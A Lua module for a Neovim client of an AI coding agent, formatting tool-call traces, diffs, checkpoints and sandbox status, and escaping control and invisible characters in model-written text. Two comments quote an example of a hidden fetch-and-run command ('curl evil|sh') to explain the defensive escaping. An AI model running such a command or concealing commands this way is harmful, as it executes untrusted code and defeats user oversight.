-- Trace lines for agent/toolActivity, in the layout of the terminal client
-- (server/terminal/output.py format_activity); the words are the server's (the
-- notification's title, durationText and outputHead: server.agent.activity):
--   12:00:01 → read_file src/app.py
--   12:00:01 ✓ read_file src/app.py (3 ms)
--   12:00:02 ✗ bash make test (512 ms): Error: exit status 2
--   12:00:03 ⏸ bash npm ci (waiting for permission)
-- and for agent/compaction (its summary):
--   12:00:03 ⇣ compacted: 30,512 → 9,880 tokens of 32,000 (12 outputs elided)
local protocol = require('agent_lsp.protocol_generated')

local M = {}

local ONE_LINE_CHARS = 80
local NEWLINE_MARK = '⏎'

local function trim(text)
  return (text:gsub('^%s+', ''):gsub('%s+$', ''))
end

-- Model-written text made safe to show, by the rules of the server's tooling/display.py:
-- ESC -> \e, CR -> \r, a newline -> ⏎ (unless kept), other C0/DEL/C1 controls -> \xNN,
-- bidi, invisible and format characters -> \uXXXX (\u{XXXXX} beyond U+FFFF); tabs stay.
-- An escape sequence in a command must not hide part of it
-- (`git fetch #<ESC>[8m<newline>curl evil|sh`). Escaping twice changes nothing. The text
-- is UTF-8: each multi-byte character is decoded and looked up in the ranges below.
local NAMED = { ['\27'] = '\\e', ['\r'] = '\\r', ['\n'] = NEWLINE_MARK }

-- tooling/display.py _INVISIBLE_RANGES: every format character (Cf), U+2028/2029, lone
-- surrogates, the Hangul fillers, the tag characters.
local INVISIBLE = {
  { 0x00AD, 0x00AD }, { 0x0600, 0x0605 }, { 0x061C, 0x061C }, { 0x06DD, 0x06DD },
  { 0x070F, 0x070F }, { 0x0890, 0x0891 }, { 0x08E2, 0x08E2 }, { 0x115F, 0x1160 },
  { 0x180E, 0x180E }, { 0x200B, 0x200F }, { 0x2028, 0x202E }, { 0x2060, 0x2064 },
  { 0x2066, 0x206F }, { 0x3164, 0x3164 }, { 0xD800, 0xDFFF }, { 0xFEFF, 0xFEFF },
  { 0xFFA0, 0xFFA0 }, { 0xFFF9, 0xFFFB }, { 0x110BD, 0x110BD }, { 0x110CD, 0x110CD },
  { 0x13430, 0x1343F }, { 0x1BCA0, 0x1BCA3 }, { 0x1D173, 0x1D17A }, { 0xE0000, 0xE007F },
}
-- Only in what the user consents to (_CONSENT_RANGES): private use, variation selectors.
local CONSENT_ONLY = {
  { 0x034F, 0x034F }, { 0x17B4, 0x17B5 }, { 0x180B, 0x180D }, { 0x180F, 0x180F },
  { 0x2065, 0x2065 }, { 0xE000, 0xF8FF }, { 0xFE00, 0xFE0F }, { 0xE0100, 0xE01EF }, { 0xF0000, 0x10FFFF },
}
M.CONSENT_BLANK_RUN = 3

local function hex(byte)
  return string.format('\\x%02x', byte:byte())
end

local function within(ranges, code)
  for _, range in ipairs(ranges) do
    if code >= range[1] and code <= range[2] then
      return true
    end
  end
  return false
end

local function decode(char)
  local first, n = char:byte(1), #char
  local code = n == 2 and first - 0xC0 or n == 3 and first - 0xE0 or first - 0xF0
  for i = 2, n do
    code = code * 64 + (char:byte(i) - 0x80)
  end
  return code
end

local function escape(text, keep_newlines, consent)
  local controls = keep_newlines and '[%z\1-\8\11-\31\127]' or '[%z\1-\8\10-\31\127]'
  text = text:gsub(controls, function(char)
    return NAMED[char] or hex(char)
  end)
  text = text:gsub('\194([\128-\159])', hex) -- U+0080-U+009F
  return (text:gsub('[\194-\244][\128-\191]+', function(char)
    local code = decode(char)
    if within(INVISIBLE, code) or (consent and within(CONSENT_ONLY, code)) then
      return code <= 0xFFFF and string.format('\\u%04x', code) or string.format('\\u{%x}', code)
    end
  end))
end

function M.escape_control(text, keep_newlines)
  return escape(text, keep_newlines, false)
end

-- Blank characters whose runs escape_consent marks: space, tab, and in UTF-8 U+00A0,
-- U+1680, U+2000-200A, U+202F, U+205F, U+2800 (braille blank), U+3000.
local BLANK = '[ \t]'
local WIDE_BLANKS = { ['\194\160'] = true, ['\225\154\128'] = true, ['\226\128\175'] = true,
  ['\226\129\159'] = true, ['\226\160\128'] = true, ['\227\128\128'] = true }
for byte = 0x80, 0x8A do
  WIDE_BLANKS['\226\128' .. string.char(byte)] = true
end

--- What the user is asked to allow (tooling/display.py escape_consent): escape_control,
--- private-use characters and variation selectors spelled out too, and each run of more
--- than CONSENT_BLANK_RUN blanks shown as "␣×N".
function M.escape_consent(text, keep_newlines)
  text = escape(text, keep_newlines, true)
  local out, run, i, n = {}, 0, 1, #text
  local function flush()
    if run > M.CONSENT_BLANK_RUN then
      table.insert(out, '␣×' .. run)
    else
      table.insert(out, table.concat(out.pending or {}))
    end
    out.pending, run = nil, 0
  end
  while i <= n do
    local one = text:sub(i, i)
    local width = 1
    if not one:match(BLANK) then
      local three, two = text:sub(i, i + 2), text:sub(i, i + 1)
      if WIDE_BLANKS[three] then
        one, width = three, 3
      elseif WIDE_BLANKS[two] then
        one, width = two, 2
      else
        one = nil
      end
    end
    if one then
      out.pending = out.pending or {}
      table.insert(out.pending, one)
      run = run + 1
    else
      if run > 0 then
        flush()
      end
      table.insert(out, text:sub(i, i))
    end
    i = i + width
  end
  if run > 0 then
    flush()
  end
  out.pending = nil
  return table.concat(out)
end

--- One line, escaped: line breaks as " ⏎ " (so `git fetch #` then `curl ... | sh` on the
--- next line does not read as one comment), other whitespace runs as one space, cut to
--- `max` characters with an ellipsis (as server.agent.activity's titles).
function M.one_line(text, max)
  max = max or ONE_LINE_CHARS
  local parts = {}
  for _, part in ipairs(vim.split(text, '\n', { plain = true })) do
    part = trim(M.escape_control(part):gsub('%s+', ' '))
    if part ~= '' then
      table.insert(parts, part)
    end
  end
  local line = table.concat(parts, ' ' .. NEWLINE_MARK .. ' ')
  if vim.fn.strchars(line) <= max then
    return line
  end
  return vim.fn.strcharpart(line, 0, max - 1) .. '…'
end

M.DIFF_LINES = 20 -- an edit's diff lines shown
M.WRITE_LINES = 8 -- a write's first lines shown

-- `text`'s lines (a last newline ends the last line; no text, no lines).
local function split_lines(text)
  if text == '' then
    return {}
  end
  local lines = vim.split(text, '\n', { plain = true })
  if #lines > 1 and lines[#lines] == '' then
    table.remove(lines)
  end
  return lines
end

-- The replacement of `old` by `new` as unified diff lines: the lines both start and end
-- with as context (' '), the old middle removed ('-'), the new middle added ('+').
local function line_diff(old, new)
  local a, b = split_lines(old), split_lines(new)
  local start = 0
  while start < #a and start < #b and a[start + 1] == b[start + 1] do
    start = start + 1
  end
  local tail = 0
  while tail < #a - start and tail < #b - start and a[#a - tail] == b[#b - tail] do
    tail = tail + 1
  end
  local lines = {}
  local function add(mark, list, from, to)
    for i = from, to do
      table.insert(lines, mark .. M.escape_control(list[i]))
    end
  end
  add(' ', a, 1, start)
  add('-', a, start + 1, #a - tail)
  add('+', b, start + 1, #b - tail)
  add(' ', a, #a - tail + 1, #a)
  return lines
end

-- `n word(s)`, n with thousands separators.
local function count(n, word)
  return M.thousands(n) .. ' ' .. word .. (n == 1 and '' or 's')
end

-- The first `max` of `lines` and, if more, a line saying how many more.
local function capped(lines, max)
  if #lines <= max then
    return lines
  end
  local shown = vim.list_slice(lines, 1, max)
  table.insert(shown, '… ' .. count(#lines - max, 'more line'))
  return shown
end

--- What an edit or a write call does, as every client shows it: edit_file as unified diff
--- lines under `edit PATH: +A -R`, write_file as `write PATH: N lines, B bytes` and its
--- first lines; any other call (or arguments that do not parse) has none ({}).
function M.edit_lines(name, arguments)
  local ok, args = pcall(vim.json.decode, type(arguments) == 'string' and arguments or '')
  if not ok or type(args) ~= 'table' or type(args.path) ~= 'string' then
    return {}
  end
  local path = M.escape_control(args.path)
  if name == 'edit_file' and type(args.old_text) == 'string' and type(args.new_text) == 'string' then
    local lines = line_diff(args.old_text, args.new_text)
    local added, removed = 0, 0
    for _, line in ipairs(lines) do
      added = added + (line:sub(1, 1) == '+' and 1 or 0)
      removed = removed + (line:sub(1, 1) == '-' and 1 or 0)
    end
    local head = string.format('edit %s: +%d -%d%s', path, added, removed, args.replace_all == true and ' (every occurrence)' or '')
    return vim.list_extend({ head }, capped(lines, M.DIFF_LINES))
  end
  if name == 'write_file' and type(args.content) == 'string' then
    local lines = {}
    for _, line in ipairs(split_lines(args.content)) do
      table.insert(lines, '+' .. M.escape_control(line))
    end
    local head = string.format('write %s: %s, %s', path, count(#lines, 'line'), count(#args.content, 'byte'))
    return vim.list_extend({ head }, capped(lines, M.WRITE_LINES))
  end
  return {}
end

--- A text field of the server's, ready to show (escaped again: idempotent), or ''.
local function shown(value)
  return type(value) == 'string' and M.escape_control(value) or ''
end

--- A call's one line (the notification's or the history's `title`: the tool, its display
--- name for an MCP tool, then what it acts on), as the server words it.
function M.call_title(params)
  return shown(params.title)
end

--- How long a finished call took, as the server words it ("12 ms; 8.0 s waiting for
--- permission"): the notification's or the result's durationText.
function M.took(params)
  return shown(params.durationText)
end

--- One trace line for an agent/toolActivity notification.
function M.activity_line(params, now)
  local stamp = os.date('%H:%M:%S', now)
  local title = M.call_title(params)
  if params.status == 'started' then
    return string.format('%s → %s', stamp, title)
  end
  if params.status == 'waiting' then
    return string.format('%s ⏸ %s (waiting for permission)', stamp, title)
  end
  local mark = params.status == 'completed' and '✓' or '✗'
  local line = string.format('%s %s %s (%s)', stamp, mark, title, M.took(params))
  local head = shown(params.outputHead)
  if params.status == 'failed' and head ~= '' then
    line = line .. ': ' .. head
  end
  return line
end

-- How a Neovim user does what an error's data.action (or a failed check's action) asks:
-- the server's words name no editor, these name Neovim's ways.
local ACTION_WORDS = {
  [protocol.actions.set_api_key] = 'To set the key: `agent-lsp config set-key` in a terminal, then :AgentCheck.',
  [protocol.actions.set_base_url] = "To set it: setup()'s settings.baseUrl, or `agent-lsp config set base_url URL` in a terminal.",
  [protocol.actions.set_model] = 'To choose one: :AgentModel.',
}

--- A server message followed by how to do in Neovim what its `action` asks (if any).
function M.with_action(message, action)
  local words = ACTION_WORDS[action]
  if words then
    return tostring(message) .. ' ' .. words
  end
  return tostring(message)
end

--- An error's message as a Neovim user acts on it (its data.action worded).
function M.error_text(err)
  local data = type(err) == 'table' and type(err.data) == 'table' and err.data or {}
  return M.with_action(type(err) == 'table' and err.message or err, data.action)
end

--- The lines of an agent/checkConnection result: a mark and a sentence per check.
function M.check_lines(result)
  local lines = {}
  for _, check in ipairs(type(result) == 'table' and result.checks or {}) do
    local mark = check.ok == true and '✓' or '✗'
    table.insert(lines, string.format('%s %s: %s', mark, tostring(check.name), M.with_action(check.message, check.action)))
  end
  table.insert(lines, '')
  table.insert(lines, result and result.ok == true and 'The endpoint works.' or 'The endpoint does not work yet.')
  return lines
end

--- 12345678 -> "12,345,678" (Python's format(n, ','))
function M.thousands(n)
  local digits = tostring(math.floor(tonumber(n) or 0))
  local sign, rest = digits:match('^(-?)(%d+)$')
  rest = rest:reverse():gsub('(%d%d%d)', '%1,'):reverse():gsub('^,', '')
  return sign .. rest
end

--- What a compaction did, as the server words it (an agent/compaction notification's or
--- an agent/compact result's summary).
function M.compaction_summary(params)
  return shown(params.summary)
end

--- One trace line for an agent/compaction notification.
function M.compaction_line(params, now)
  return string.format('%s ⇣ %s', os.date('%H:%M:%S', now), shown(params.summary))
end

local MARKS = { added = 'A', modified = 'M', deleted = 'D' }

local function local_time(stamp)
  -- "2026-12-01T10:12:00Z" (UTC) shown in local time, as the terminal client does.
  local y, mo, d, h, mi, sec = tostring(stamp):match('^(%d+)-(%d+)-(%d+)T(%d+):(%d+):(%d+)')
  if not y then
    return tostring(stamp)
  end
  local utc = { year = tonumber(y), month = tonumber(mo), day = tonumber(d), hour = tonumber(h), min = tonumber(mi), sec = tonumber(sec) }
  local offset = os.time() - os.time(os.date('!*t'))
  return os.date('%Y-%m-%d %H:%M', os.time(utc) + offset)
end

--- A session's asks and the files each changed, as `agent-lsp checkpoints` prints them:
---   "  1  2026-12-01 10:12  tidy the notes" then "       M notes.txt (+1 -1)".
function M.checkpoint_lines(checkpoints)
  local lines = {}
  for _, checkpoint in ipairs(checkpoints or {}) do
    local state = checkpoint.state ~= 'done' and (' [' .. tostring(checkpoint.state) .. ']') or ''
    table.insert(lines, string.format('%3s  %s  %s%s', checkpoint.id, local_time(checkpoint.time), checkpoint.prompt, state))
    for _, file in ipairs(checkpoint.files or {}) do
      local counts = {}
      if type(file.added) == 'number' and file.added > 0 then
        table.insert(counts, '+' .. file.added)
      end
      if type(file.removed) == 'number' and file.removed > 0 then
        table.insert(counts, '-' .. file.removed)
      end
      local suffix = #counts > 0 and (' (' .. table.concat(counts, ' ') .. ')') or ''
      table.insert(lines, '       ' .. (MARKS[file.status] or '?') .. ' ' .. file.path .. suffix)
    end
    if #(checkpoint.files or {}) == 0 then
      table.insert(lines, '       (no files changed)')
    end
    for _, note in ipairs(checkpoint.notes or {}) do
      table.insert(lines, '       note: ' .. note)
    end
  end
  return lines
end

--- What a rewind did (or, for a dry run, would do), as `agent-lsp rewind` prints it.
function M.rewind_lines(result, checkpoint_id)
  local dry = result.dryRun == true
  local in_editor = {}
  for _, path in ipairs(result.inEditor or {}) do
    in_editor[path] = true
  end
  local lines = {}
  for _, path in ipairs(result.restored or {}) do
    local where = in_editor[path] and ' (in the editor, unsaved)' or ''
    table.insert(lines, (dry and 'would restore: ' or 'restored: ') .. path .. where)
  end
  for _, conflict in ipairs(result.conflicts or {}) do
    table.insert(lines, (dry and 'would keep' or 'kept') .. ' (changed since): ' .. conflict.path .. ': ' .. conflict.reason)
  end
  if #(result.restored or {}) == 0 and #(result.conflicts or {}) == 0 then
    table.insert(lines, 'no files to put back')
  end
  if result.conversationTruncated then
    table.insert(lines, 'conversation ' .. (dry and 'would be cut' or 'cut') .. ' back to before ask ' .. tostring(checkpoint_id))
  end
  return lines
end

--- agent/diff files as one unified diff text (lines).
function M.diff_lines(files)
  local lines = {}
  for _, file in ipairs(files or {}) do
    if file.binary then
      table.insert(lines, 'Binary file ' .. file.path .. ' ' .. file.status)
    else
      local text = (file.diff or ''):gsub('\n$', '')
      vim.list_extend(lines, vim.split(text, '\n', { plain = true }))
    end
  end
  return lines
end

-- The bash sandbox (agent/sandboxStatus), in the words of every client
-- (tests/support/sandbox_cases.json): its kind, a one-line summary, the report's lines.

local function given(value)
  return value ~= nil and value ~= vim.NIL and value ~= false and value ~= ''
end

local function list(value)
  return type(value) == 'table' and value or {}
end

--- 'full', 'weakened' (a fallback form), 'off' (the user's choice) or 'none' (the
--- settings ask for a sandbox this system cannot give).
function M.sandbox_kind(status)
  if status.mode == 'off' then
    return 'off'
  end
  if status.enforced ~= true then
    return 'none'
  end
  return (given(status.fallback) or #list(status.weakened) > 0) and 'weakened' or 'full'
end

local function mark(on, text)
  return (on and '✓ ' or '✗ ') .. text
end

local function sandbox_layers(status)
  local layers = type(status.layers) == 'table' and status.layers or {}
  local ns = layers.namespaces == true
  local limit = given(layers.processLimit) and layers.processLimit or nil
  return 'layers: '
    .. table.concat({
      mark(ns, (ns and given(status.bwrap)) and ('namespaces (' .. status.bwrap .. ')') or 'namespaces'),
      mark(layers.networkNamespace == true, 'network namespace'),
      mark(layers.landlock == true, layers.landlock == true and ('Landlock ABI ' .. tostring(status.landlockAbi)) or 'Landlock'),
      mark(layers.seccomp == true, 'seccomp'),
      mark(limit ~= nil, limit and ('process limit (' .. tostring(limit) .. ')') or 'process limit'),
    }, ' · ')
end

local function sandbox_network(status)
  local domains = table.concat(list(status.allowedDomains), ', ')
  if status.networkAccess == 'none' then
    -- The hosts were asked for, but this system cannot give the proxy its own network.
    if domains ~= '' then
      return 'network: none; allowedDomains (' .. domains .. ') need a network namespace'
    end
    return 'network: none (a command asks you first)'
  end
  if status.networkAccess == 'allowedDomains' then
    return 'network: only ' .. domains .. ', through the proxy'
  end
  return 'network: ' .. tostring(status.networkAccess)
end

--- `{ kind = ..., summary = '...', lines = { ... } }` for an agent/sandboxStatus result.
--- What to show for an agent/sandboxStatus result: { kind, summary, lines }; the
--- conversation's "always" answers that let bash leave the sandbox (`grants`) come last.
function M.sandbox_view(status)
  local view = M.sandbox_kind_view(status)
  local grants = list(status.grants)
  if #grants > 0 and view.kind ~= 'off' then
    vim.list_extend(view.lines, { '', 'always allowed in this conversation:' })
    for _, grant in ipairs(grants) do
      table.insert(view.lines, '- ' .. M.escape_control(tostring(grant.title)))
    end
  end
  return view
end

function M.sandbox_kind_view(status)
  local kind = M.sandbox_kind(status)
  local mode = tostring(status.mode)
  if kind == 'off' then
    return {
      kind = kind,
      summary = 'sandbox off: bash commands run with your full rights',
      lines = { 'mode: off', 'bash commands run with your full rights: nothing is hidden or limited' },
    }
  end
  if kind == 'none' then
    local reason = given(status.reason) and status.reason or 'this system offers no sandbox'
    return {
      kind = kind,
      summary = 'no sandbox: ' .. reason .. '; every bash call asks first',
      lines = {
        'mode: ' .. mode .. ', not enforced: ' .. reason,
        'every bash call asks for your permission first, and runs with your rights',
      },
    }
  end
  local roots = list(status.writableRoots)
  local limits = type(status.limits) == 'table' and status.limits or {}
  local lines = {
    'mode: ' .. mode,
    sandbox_layers(status),
    sandbox_network(status),
    #roots > 0 and ('writable: ' .. table.concat(roots, ', ') .. " and each call's private $TMPDIR")
      or "writable: only each call's private $TMPDIR",
    string.format(
      'limits: %s processes · files up to %s MB · %s MB of memory per process',
      M.thousands(limits.processes),
      M.thousands(limits.fileSizeMB),
      M.thousands(limits.memoryMB)
    ),
  }
  local hidden = list(status.hiddenPaths)
  if #hidden > 0 then
    table.insert(lines, 'hidden from commands: ' .. table.concat(hidden, ', '))
  end
  local weakened = list(status.weakened)
  local fallback = given(status.fallback) and status.fallback or nil
  if kind == 'weakened' then
    table.insert(lines, '')
    table.insert(lines, 'weaker than the full sandbox:' .. (fallback and (' ' .. fallback) or ''))
    for _, promise in ipairs(weakened) do
      table.insert(lines, '- ' .. promise)
    end
  end
  local summary = kind == 'full' and ('sandbox: ' .. mode .. ', every layer in force')
    or ('sandbox: ' .. mode .. ', weaker here: ' .. (fallback or weakened[1] or ''))
  return { kind = kind, summary = summary, lines = lines }
end

return M
